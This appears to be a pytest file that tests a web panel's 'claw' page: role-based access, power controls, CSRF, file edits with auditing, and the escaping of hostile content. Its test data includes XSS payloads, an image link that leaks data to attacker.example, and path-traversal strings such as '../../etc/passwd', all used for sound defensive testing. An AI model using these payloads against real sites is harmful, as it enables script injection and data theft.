"""The claw page (web/routes/claws.py, web/claw_view.py) on a real SQLite
store through the real app, with a FakeClawOps standing in for the
controller: who sees what, power, the console tail, workspace files and
their edits, schedules, skills, usage, messages — and hostile text from a
claw coming out inert."""

from __future__ import annotations

import hashlib
import re
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient

from appliance.core.model import ClawState
from appliance.core.schedule import CreatedBy, JobKind
from appliance.core.workspace_files import MAX_EDIT_BYTES
from tests.support.panel import ORIGIN, Harness, csrf_of

POST = {"Origin": ORIGIN}
HOSTILE = (
    "# Notes\n\n<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n"
    "[x](javascript:alert(1))\n\n![i](http://attacker.example/leak?d=secret)\n\n"
    "<svg onload=alert(1)>\n\nflip \u202eevil\u202c and zero\u200bwidth\n"
)
CLAW_ROUTES = (
    "/claws/alice",
    "/claws/alice/status",
    "/claws/alice/files",
    "/claws/alice/file?path=SOUL.md",
    "/claws/alice/edit?path=USER.md",
)


def assert_inert(html: str) -> None:
    """No markup from the hostile payload survived as markup, and the bidi
    and zero-width characters are shown as visible escapes."""
    body = html.split("</head>")[-1]
    assert "<script" not in body and "<img" not in body and "<svg onload" not in body
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", body)  # no on* handler on any tag
    assert 'href="javascript:' not in body and 'src="http://attacker' not in body
    assert "\u202e" not in body and "\u200b" not in body
    assert "\\u202e" in body and "\\u200b" in body


@pytest.fixture
def home(panel: Harness) -> Harness:
    """Alice's claw, the admin mum, alice (its owner) and bob (a stranger)."""
    panel.add_claw("alice")
    panel.add_claw("bob")
    panel.add_user("mum", "admin")
    panel.add_user("alice", "member", ("alice",), with_totp=False)
    panel.add_user("bob", "member", ("bob",), with_totp=False)
    panel.claws.files["alice"] = {"SOUL.md": "Be kind.", "USER.md": "Alice, 9.", "notes.txt": "x"}
    return panel


def logged_in(panel: Harness, name: str) -> tuple[TestClient, str]:
    client = panel.client()
    return client, panel.login(client, name)


def test_every_section_renders_for_the_admin(home: Harness) -> None:
    home.claws.consoles["alice"] = ["[    0.000000] Linux version 6.1", "login: ok"]
    client, _ = logged_in(home, "mum")
    html = client.get("/claws/alice").text
    for heading in ("Power", "Workspace", "Console log", "Heartbeat and schedules", "Skills",
                    "LLM use", "Messages"):  # fmt: skip
        assert f"<h2>{heading}</h2>" in html
    assert 'value="restart"' in html and "Linux version 6.1" in html
    files = client.get("/claws/alice/files", headers={"HX-Request": "true"}).text
    assert "SOUL.md" in files and "USER.md" in files and "edit?path=USER.md" in files
    assert "notes.txt" not in files  # only the files the panel shows


def test_the_owner_sees_the_page_without_power_console_or_edit(home: Harness) -> None:
    home.claws.consoles["alice"] = ["secret boot line"]
    client, _ = logged_in(home, "alice")
    html = client.get("/claws/alice").text
    assert "<h2>Messages</h2>" in html and "<h2>Workspace</h2>" in html
    assert "Console log" not in html and "secret boot line" not in html
    assert 'value="restart"' not in html
    files = client.get("/claws/alice/files").text
    assert "SOUL.md" in files and "edit?path" not in files
    assert "Be kind." in client.get("/claws/alice/file?path=SOUL.md").text
    assert client.get("/claws/alice/edit?path=USER.md").status_code == 403


@pytest.mark.parametrize("route", CLAW_ROUTES)
def test_another_member_gets_404_on_every_claw_route(home: Harness, route: str) -> None:
    client, csrf = logged_in(home, "bob")
    assert client.get(route).status_code == 404
    # ...exactly like a claw that does not exist.
    assert client.get(route.replace("alice", "nobody")).status_code == 404


def test_another_member_gets_404_posting_too(home: Harness) -> None:
    client, csrf = logged_in(home, "bob")
    headers = {**POST, "X-CSRF-Token": csrf}
    power = client.post("/claws/alice/power", data={"action": "stop"}, headers=headers)
    edit = client.post("/claws/alice/edit", data={"path": "USER.md", "text": "x"}, headers=headers)
    assert power.status_code == 404 and edit.status_code == 404
    assert home.claws.powered == [] and home.claws.written == []


def test_an_unknown_claw_is_404_for_the_admin(home: Harness) -> None:
    client, _ = logged_in(home, "mum")
    assert client.get("/claws/nobody").status_code == 404
    assert client.get("/claws/nobody/files").status_code == 404


def test_power_needs_the_admin_and_csrf_and_reaches_the_controller(home: Harness) -> None:
    client, csrf = logged_in(home, "mum")
    no_csrf = client.post("/claws/alice/power", data={"action": "stop"}, headers=POST)
    assert no_csrf.status_code == 403 and home.claws.powered == []
    done = client.post(
        "/claws/alice/power", data={"action": "restart"}, headers={**POST, "X-CSRF-Token": csrf}
    )
    assert done.status_code == 200 and home.claws.powered == [("alice", "restart")]
    # The status partial polls while the change is under way.
    assert 'id="claw-status"' in done.text and 'hx-trigger="every 2s"' in done.text
    bad = client.post(
        "/claws/alice/power", data={"action": "explode"}, headers={**POST, "X-CSRF-Token": csrf}
    )
    assert bad.status_code == 400 and "use start, stop or restart" in bad.text
    member, member_csrf = logged_in(home, "alice")
    refused = member.post(
        "/claws/alice/power", data={"action": "stop"}, headers={**POST, "X-CSRF-Token": member_csrf}
    )
    assert refused.status_code == 403 and home.claws.powered == [("alice", "restart")]


def test_the_status_stops_polling_once_the_claw_is_settled(home: Harness) -> None:
    from web.ports import ChannelInfo

    client, _ = logged_in(home, "mum")
    waiting = client.get("/claws/alice/status").text  # running, no channel yet
    assert "every 2s" in waiting
    home.claws.channels["alice"] = ChannelInfo("ready", 0.0)
    settled = client.get("/claws/alice/status").text
    assert "every 2s" not in settled and "ready" in settled


def test_hostile_memory_file_renders_inert(home: Harness) -> None:
    home.claws.files["alice"]["MEMORY.md"] = HOSTILE
    client, _ = logged_in(home, "mum")
    shown = client.get("/claws/alice/file?path=MEMORY.md", headers={"HX-Request": "true"})
    assert shown.status_code == 200 and "<h1>Notes</h1>" in shown.text  # markdown rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown.text
    assert "[image: i]" in shown.text
    assert_inert(shown.text)
    # The full page (no htmx) too.
    assert_inert(client.get("/claws/alice/file?path=MEMORY.md").text)


def test_hostile_messages_render_inert(home: Harness) -> None:
    home.store.messages.add("alice", "out", "cli", "alice", HOSTILE)  # a reply: markdown
    home.store.messages.add("alice", "in", "telegram", "eve \u202e", HOSTILE)  # the rest: visible
    client, _ = logged_in(home, "alice")
    html = client.get("/claws/alice").text
    assert "<h1>Notes</h1>" in html  # the reply went through markdown
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the inbound one shown as text
    assert "from the claw" in html and "to the claw" in html and "telegram" in html
    assert_inert(html)


def test_hostile_console_log_renders_inert(home: Harness) -> None:
    home.claws.consoles["alice"] = [
        "\x1b[2J\x1b[31mred\x1b[0m",
        *HOSTILE.splitlines(),
    ]
    client, _ = logged_in(home, "mum")
    html = client.get("/claws/alice").text
    assert "\\x1b[31mred" in html and "\x1b" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert_inert(html)


def test_console_shows_the_last_hundred_lines(home: Harness) -> None:
    home.claws.consoles["alice"] = [f"line {i:03d}" for i in range(250)]
    client, _ = logged_in(home, "mum")
    html = client.get("/claws/alice").text
    assert "line 249" in html and "line 150" in html and "line 149" not in html


def test_editing_user_md_writes_through_the_port_and_is_audited(home: Harness) -> None:
    client, csrf = logged_in(home, "mum")
    text = "Alice is 10 now.\r\nLikes \u202e maths."
    done = client.post(
        "/claws/alice/edit",
        data={"path": "USER.md", "text": text},
        headers={**POST, "X-CSRF-Token": csrf, "HX-Request": "true"},
    )
    assert done.status_code == 200 and "Saved" in done.text
    data = "Alice is 10 now.\nLikes \u202e maths.".encode()
    assert home.claws.written == [("alice", "USER.md", data)]
    entry = home.store.audit.entries()[-1]
    assert entry.action == "claw.file_edit" and entry.target == "alice"
    assert entry.actor == "user:mum"
    assert entry.details == {
        "file": "USER.md",
        "bytes": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
    }
    assert "Alice is 10" not in str(entry.details)  # never the content
    # The form shows the current text to edit.
    form = client.get("/claws/alice/edit?path=USER.md").text
    assert "Alice is 10 now." in form and 'name="csrf"' in form


def test_editing_needs_csrf_and_an_editable_file_and_a_sane_size(home: Harness) -> None:
    client, csrf = logged_in(home, "mum")
    headers = {**POST, "X-CSRF-Token": csrf}
    no_csrf = client.post("/claws/alice/edit", data={"path": "USER.md", "text": "x"}, headers=POST)
    assert no_csrf.status_code == 403
    soul = client.post("/claws/alice/edit", data={"path": "SOUL.md", "text": "x"}, headers=headers)
    assert soul.status_code == 400 and "only USER.md and HEARTBEAT.md" in soul.text
    big = client.post(
        "/claws/alice/edit",
        data={"path": "HEARTBEAT.md", "text": "x" * (MAX_EDIT_BYTES + 1)},
        headers=headers,
    )
    assert big.status_code == 400 and "over the 32 KiB limit" in big.text
    assert home.claws.written == []
    assert not [e for e in home.store.audit.entries() if e.action == "claw.file_edit"]


@pytest.mark.parametrize(
    "path",
    ["../../etc/passwd", "/etc/passwd", "memory/../../x.md", "memory/2026-03-01.md/..",
     "skills/x/SKILL.md", "notes.txt", "memory/notes.md", "USER.md\x00"],
)  # fmt: skip
def test_path_traversal_is_refused(home: Harness, path: str) -> None:
    client, csrf = logged_in(home, "mum")
    assert client.get("/claws/alice/file", params={"path": path}).status_code == 400
    assert client.get("/claws/alice/edit", params={"path": path}).status_code == 400
    posted = client.post(
        "/claws/alice/edit",
        data={"path": path, "text": "x"},
        headers={**POST, "X-CSRF-Token": csrf},
    )
    assert posted.status_code == 400 and home.claws.written == []


def test_a_stopped_claw_shows_a_note_instead_of_its_files(home: Harness) -> None:
    home.store.claws.set_state("alice", ClawState.STOPPED)
    client, _ = logged_in(home, "alice")
    files = client.get("/claws/alice/files")
    assert files.status_code == 200 and "start the claw to see its files" in files.text
    # Running but unreachable (no channel): a note too, not an error.
    home.store.claws.set_state("alice", ClawState.RUNNING)
    del home.claws.files["alice"]
    again = client.get("/claws/alice/files")
    assert again.status_code == 200 and "start the claw to see its files" in again.text


def test_daily_notes_are_listed_newest_first(home: Harness) -> None:
    home.claws.files["alice"].update(
        {"memory/2026-02-27.md": "old", "memory/2026-02-28.md": "new", "memory/x.md": "no"}
    )
    client, _ = logged_in(home, "alice")
    files = client.get("/claws/alice/files").text
    assert files.index("memory/2026-02-28.md") < files.index("memory/2026-02-27.md")
    assert "memory/x.md" not in files
    note = client.get("/claws/alice/file", params={"path": "memory/2026-02-28.md"})
    assert note.status_code == 200 and "new" in note.text


def test_schedules_skills_usage_and_messages_are_shown(home: Harness) -> None:
    now = home.clock.now
    home.store.schedules.set_heartbeat("alice", "every=30m", "UTC", "", True, now)
    home.store.schedules.add(
        "alice", JobKind.CRON, "0 9 * * *", "UTC", "water the plants", CreatedBy.CLAW, now
    )
    home.store.skills.record("alice", "weather", "ab" * 32, "/srv/skills/weather")
    home.store.usage.record("alice", "m", prompt_tokens=700, completion_tokens=300, ts=now)
    home.store.usage.record("alice", "m", prompt_tokens=50, ts=now - timedelta(days=3))
    home.store.usage.record("alice", "m", prompt_tokens=99, ts=now - timedelta(days=40))
    home.store.usage.record("bob", "m", prompt_tokens=5000, ts=now)
    home.store.messages.add("alice", "in", "cli", "alice", "hello there")
    client, _ = logged_in(home, "alice")
    html = client.get("/claws/alice").text
    assert "every=30m" in html and "water the plants" in html and "0 9 * * *" in html
    assert "weather" in html and "abababab" in html
    # Installing is the admin's (with a TOTP code): no form for the member.
    assert "installed by an admin" in html and 'action="/claws/alice/skills"' not in html
    assert "hello there" in html
    # The chart: 30 bars, today's the tallest (1000 tokens), bob's not counted.
    bar = r'<rect x="\d+" y="(\d+)" width="8" height="(\d+)"><title>([^<]+)</title>'
    bars = re.findall(bar, html)
    assert len(bars) == 30
    assert bars[-1] == ("0", "60", "2026-03-01: 1000 tokens, 0.0 USD")
    assert bars[-4][2].startswith("2026-02-26: 50 tokens") and bars[-4][1] == "3"
    assert "the tallest bar is 1000 tokens" in html and "5000" not in html
    assert "<script" not in html.split("</head>")[1]


def test_pages_carry_no_inline_script_or_style(home: Harness) -> None:
    home.claws.consoles["alice"] = ["boot"]
    client, _ = logged_in(home, "mum")
    pages = [client.get(r).text for r in CLAW_ROUTES]
    for html in pages:
        body = html.split("</head>")[-1]
        assert "<script" not in body and "style=" not in body and "hx-on" not in body
        assert not re.search(r"\son[a-z]+=", body)
    assert csrf_of(pages[0])
